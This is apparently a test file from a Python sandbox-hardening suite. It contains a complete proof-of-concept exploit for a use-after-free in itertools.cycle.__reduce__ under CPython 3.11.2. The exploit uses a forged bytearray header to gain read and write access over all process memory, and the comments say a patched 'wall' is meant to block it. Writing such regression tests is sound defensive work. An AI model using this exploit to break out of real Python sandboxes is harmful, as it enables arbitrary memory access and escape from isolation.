# family: wall (memory: itertools.cycle's __reduce__ handing out the list it indexes)   goal: memory   interpreter: /usr/bin/python3
# The eleventh wall round's variant of ok_06 (X62) with no __setstate__ call:
# itertools.cycle.__reduce__ returns the cycle's own `saved` list, live. Once the
# source is exhausted, cycle's __next__ reads saved[index] before it checks the list's
# length: two pop()s shrink the list to one item without a realloc, the item at the
# saved index is freed, a bytearray's buffer (FAKE: a bytearray header of 2**62 bytes
# at address 0) takes its block, and next(c) hands out the forged object. Under the
# image's 3.11.2 the program then holds a bytearray over all memory
# (MEMORY-OVERWRITTEN); the wall's cycle_reduce hands out a copy of the list.
import itertools
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
def raw_memory():
    c = itertools.cycle([V(), V(), V()])
    for _ in range(5):
        next(c)                            # first pass saved all three; index now 2
    saved = c.__reduce__()[2][0]           # the cycle's own `saved` list
    keep.append(saved[1])
    saved.pop(); saved.pop()
    keep.append(bytearray(FAKE))
    return next(c)
mem = raw_memory()
if type(mem) is bytearray and len(mem) == 1 << 62:
    print("MEMORY-OVERWRITTEN: a bytearray of 2**62 bytes at address 0")
else:
    print("cycle returned", type(mem).__name__)
